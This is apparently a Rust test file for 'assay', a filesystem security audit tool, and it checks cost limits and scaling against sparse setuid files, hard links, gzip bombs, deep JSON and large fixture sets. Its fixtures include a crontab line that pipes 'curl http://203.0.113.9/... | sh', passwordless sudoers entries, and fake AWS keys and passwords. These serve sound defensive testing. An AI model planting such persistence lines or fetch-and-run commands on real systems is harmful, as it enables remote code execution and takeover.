//! What an image may cost.

use assay::finding::FactKey;
use std::fmt::Write as _;
use std::fs::{self, File};
use std::io::Write as _;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use assay::audit::{self, Quiet, Report, Settings, Target};
use assay::budget::Budget;

use crate::lab::{KEY, Lab, found, has_loss};
use crate::program::assay;

/// Audits the tree under another budget.
fn audit_under(lab: &Lab, budget: Budget, jobs: usize) -> Report {
    let settings = Settings { budget, jobs, ..Settings::default() };
    audit::run(&Target::Rootfs(lab.tree()), &settings, &Quiet).unwrap()
}

/// A program that a package owns, with a digest that is not its own.
fn package(lab: &Lab, path: &str) {
    lab.file(
        "var/lib/dpkg/status",
        "Package: tool\nStatus: install ok installed\nArchitecture: all\nVersion: 1\n",
    )
    .file("var/lib/dpkg/info/tool.list", format!("/.\n/{path}\n"))
    .file("var/lib/dpkg/info/tool.md5sums", format!("d41d8cd98f00b204e9800998ecf8427e  {path}\n"));
}

#[test]
fn a_setuid_program_with_a_hole_of_a_terabyte_is_a_changed_file_and_a_gap_at_once() {
    let lab = Lab::new();
    lab.file("usr/bin/sudo", "#!/bin/sh\n");
    package(&lab, "usr/bin/sudo");
    let program = lab.tree().join("usr/bin/sudo");
    File::options().write(true).open(&program).unwrap().set_len(1 << 40).unwrap();
    fs::set_permissions(&program, fs::Permissions::from_mode(0o4755)).unwrap();
    let start = Instant::now();
    let report = lab.audit();
    assert!(start.elapsed() < Duration::from_secs(60), "{:?}", start.elapsed());
    assert!(found(&report, "package-file-changed", "/usr/bin/sudo"));
    assert!(has_loss(&report, "are holes"));
}

#[test]
fn many_programs_with_holes_cost_no_more_zeros_than_one_and_in_one_order() {
    let lab = Lab::new();
    package(&lab, "usr/bin/a");
    let (mut list, mut sums) = (String::from("/.\n"), String::new());
    for n in 0..6 {
        let path = format!("usr/bin/p{n}");
        lab.file(&path, "#!/bin/sh\n");
        let program = lab.tree().join(&path);
        File::options().write(true).open(&program).unwrap().set_len(3 << 20).unwrap();
        fs::set_permissions(&program, fs::Permissions::from_mode(0o4755)).unwrap();
        let _ = writeln!(list, "/{path}");
        let _ = writeln!(sums, "d41d8cd98f00b204e9800998ecf8427e  {path}");
    }
    lab.file("var/lib/dpkg/info/tool.list", list).file("var/lib/dpkg/info/tool.md5sums", sums);
    let said = |jobs| {
        let report = audit_under(&lab, Budget { hole_bytes: 10 << 20, ..Budget::default() }, jobs);
        let gaps: Vec<Vec<u8>> = report
            .losses()
            .filter(|gap| gap.reason.contains("are holes"))
            .map(|gap| gap.location.path.clone())
            .collect();
        let changed = report.findings.iter().filter(|one| one.advisory.id == "package-file-changed").count();
        (gaps, changed)
    };
    let (gaps, changed) = said(1);
    assert_eq!((gaps.len(), changed), (3, 3));
    assert_eq!(said(3), (gaps, changed));
}

#[test]
fn findings_without_number_are_counted_and_a_gap_says_so() {
    let lab = Lab::new();
    for n in 0..60 {
        lab.file(&format!("home/u{n}/.aws/credentials"), KEY.replace("mWq8", &format!("mW{n:02}")));
    }
    let budget = Budget { findings_per_rule: 20, findings: 1000, ..Budget::default() };
    let report = audit_under(&lab, budget, 2);
    let count = report.findings.iter().filter(|one| one.advisory.id == "credential-file-aws").count();
    assert_eq!(count, 20);
    assert!(has_loss(&report, "findings are only counted"));
    assert!(report.coverage.findings_dropped >= 40);
    let again = audit_under(&lab, budget, 1);
    assert_eq!((again.findings, again.gaps), (report.findings, report.gaps));
}

#[test]
fn a_million_names_of_a_file_are_counted_in_its_findings() {
    let lab = Lab::new();
    lab.file("srv/.aws/credentials", KEY);
    let file = lab.tree().join("srv/.aws/credentials");
    fs::create_dir_all(lab.tree().join("srv/deep/down")).unwrap();
    for n in 0..300 {
        fs::hard_link(&file, lab.tree().join(format!("srv/deep/down/{n:03}"))).unwrap();
    }
    let report = lab.audit_tree();
    let finding = report.findings.iter().find(|one| one.advisory.id == "credential-file-aws").unwrap();
    assert_eq!(finding.related_locations.len(), 100);
    assert!(finding.evidence.facts.contains(&(FactKey::MoreNamesOfTheFile, "200".to_owned())));
}

/// Text in gzip.
fn gzip(lab: &Lab, content: &[u8]) -> Vec<u8> {
    let plain = lab.beside("plain");
    fs::write(&plain, content).unwrap();
    let packed = Command::new("gzip").args(["-9", "-n", "-c"]).arg(&plain).output().unwrap();
    packed.stdout
}

#[test]
fn a_small_packed_file_that_is_all_keywords_is_searched_as_far_as_it_may_cost() {
    for (name, line) in [
        ("matches", "password=aB3$kd92jfla\n"),
        ("keywords", "AKIA"),
        ("marks", "-----BEGIN RSA PRIVATE KEY-----\n"),
    ] {
        let lab = Lab::new();
        let packed = gzip(&lab, line.repeat((4 << 20) / line.len()).as_bytes());
        assert!(packed.len() < 64 << 10);
        lab.file("srv/a.gz", packed);
        let budget = Budget { search_work: 1_000_000, search_work_ratio: 10, ..Budget::default() };
        let report = audit_under(&lab, budget, 1);
        assert!(has_loss(&report, "unpacks to far more keywords"), "{name}");
        assert!(report.coverage.bytes_unpacked < 4 << 20, "{name}");
    }
}

#[test]
fn a_policy_a_baseline_and_a_list_are_regular_files() {
    let lab = Lab::new();
    let tree = lab.tree();
    let pipe = lab.beside("pipe");
    assert!(Command::new("mkfifo").arg(&pipe).status().unwrap().success());
    for flag in ["--policy", "--baseline", "--hashes", "--cache"] {
        for file in [pipe.as_path(), Path::new("/dev/zero")] {
            let args =
                ["scan".as_ref(), "--rootfs".as_ref(), tree.as_os_str(), flag.as_ref(), file.as_os_str()];
            let (exit, out, err) = assay(&args);
            assert_eq!((exit.0, out.as_str()), (2, ""), "{flag} {}", file.display());
            assert_eq!(err.lines().count(), 1, "{err}");
        }
    }
}

/// The CPU seconds of a scan of the tree, the less of two.
fn cost(lab: &Lab) -> f64 {
    let once = || {
        let script = "\"$@\" >/dev/null 2>&1; times";
        let run = Command::new("sh")
            .args([
                "-c",
                script,
                "sh",
                env!("CARGO_BIN_EXE_assay"),
                "scan",
                "-q",
                "-j",
                "1",
                "--format",
                "json",
            ])
            .arg("--rootfs")
            .arg(lab.tree())
            .output()
            .unwrap();
        let text = String::from_utf8(run.stdout).unwrap();
        let times = text.lines().nth(1).unwrap();
        let seconds = |word: &str| {
            let (minutes, seconds) = word.trim_end_matches('s').split_once('m').unwrap();
            minutes.parse::<f64>().unwrap() * 60.0 + seconds.parse::<f64>().unwrap()
        };
        times.split_ascii_whitespace().map(seconds).sum::<f64>()
    };
    once().min(once())
}

/// Fills a tree with so many things of a kind.
type Fill = fn(&Lab, usize);

/// Lines, each with its number.
fn lines(count: usize, line: impl Fn(usize) -> String) -> String {
    (0..count).map(line).collect()
}

fn keys(count: usize) -> String {
    let blob = |n: usize| format!("AAAAC3NzaC1lZDI1NTE5AAAAI{n:043}");
    lines(count, |n| format!("ssh-ed25519 {} k{n}\n", blob(n)))
}

/// Each kind, and how many of it.
const KINDS: &[(&str, usize, Fill)] = &[
    ("values in a file", 1500, |lab, n| {
        lab.file("srv/x.txt", lines(n, |k| format!("password{k} = \"aB3kd92jfla{k:06}\"\n")));
    }),
    ("files with a value", 600, |lab, n| {
        for k in 0..n {
            lab.file(&format!("srv/{k}/.aws/credentials"), KEY.replace("mWq8", &format!("m{k:03}")));
        }
    }),
    ("accounts", 3000, |lab, n| {
        lab.file("etc/passwd", lines(n, |k| format!("u{k}:x:{k}:0::/home/u{k}:/bin/sh\n")));
        lab.file("etc/shadow", lines(n, |k| format!("u{k}:$6$abcdefgh${:086}:19000:0:99999:7:::\n", 7)));
    }),
    ("keys that may log in", 1500, |lab, n| {
        lab.file("root/.ssh/authorized_keys", keys(n));
    }),
    ("lines of sudoers", 3000, |lab, n| {
        lab.file("etc/sudoers", lines(n, |k| format!("u{k} ALL=(ALL) NOPASSWD: /bin/c{k}\n")));
    }),
    ("lines of a crontab", 3000, |lab, n| {
        lab.file("etc/crontab", lines(n, |k| format!("* * * * * root curl http://203.0.113.9/{k} | sh\n")));
    }),
    ("units", 400, |lab, n| {
        for k in 0..n {
            let unit = format!("[Service]\nExecStart=/opt/p{k}\n[Install]\nWantedBy=multi-user.target\n");
            lab.file(&format!("etc/systemd/system/u{k}.service"), unit);
        }
    }),
    ("lines of a history", 1500, |lab, n| {
        lab.file(
            "root/.bash_history",
            lines(n, |k| format!("curl -u admin:Vq8xkz2L{k} https://a.example/\n")),
        );
    }),
    ("names of a file", 3000, |lab, n| {
        lab.file("srv/a", KEY);
        for k in 0..n {
            fs::hard_link(lab.tree().join("srv/a"), lab.tree().join(format!("srv/n{k}"))).unwrap();
        }
    }),
    ("entries of a directory", 4000, |lab, n| {
        for k in 0..n {
            lab.file(&format!("srv/{k}"), "");
        }
    }),
    ("members of a tar with one value", 800, |lab, n| {
        let mut tar = tar::Builder::new(Vec::new());
        for k in 0..n {
            let mut header = tar::Header::new_gnu();
            header.set_size(KEY.len() as u64);
            tar.append_data(&mut header, format!("{k}/.aws/credentials"), KEY.as_bytes()).unwrap();
        }
        lab.file("srv/a.tar", tar.into_inner().unwrap());
    }),
    ("brackets in JSON", 40_000, |lab, n| {
        let mut text = b"{\"auths\":".to_vec();
        text.extend(std::iter::repeat_n(b'[', n));
        text.extend(std::iter::repeat_n(b']', n));
        text.write_all(b"}").unwrap();
        lab.file("root/.docker/config.json", text);
    }),
];

#[test]
fn twice_of_anything_costs_at_most_two_and_a_half_times_the_work() {
    let check = |(name, count, fill): &(&str, usize, Fill)| {
        let labs = [*count, 2 * count].map(|count| {
            let lab = Lab::new();
            fill(&lab, count);
            lab
        });
        let mut said = None;
        // A busy machine may make one try dear; what is quadratic is dear in each.
        for _ in 0..3 {
            let [single, double] = [cost(&labs[0]), cost(&labs[1])];
            // What every audit costs is in both, and a clock has its ticks.
            if double <= single * 2.5 + 0.3 {
                return None;
            }
            said = Some(format!("{name}: {single:.2} s, then {double:.2} s"));
        }
        said
    };
    let slow: Vec<String> = std::thread::scope(|scope| {
        let half = KINDS.len() / 2;
        let halves = [KINDS.get(..half).unwrap(), KINDS.get(half..).unwrap()];
        let threads =
            halves.map(|kinds| scope.spawn(move || kinds.iter().filter_map(check).collect::<Vec<String>>()));
        threads.into_iter().flat_map(|thread| thread.join().unwrap()).collect()
    });
    assert!(slow.is_empty(), "{slow:#?}");
}
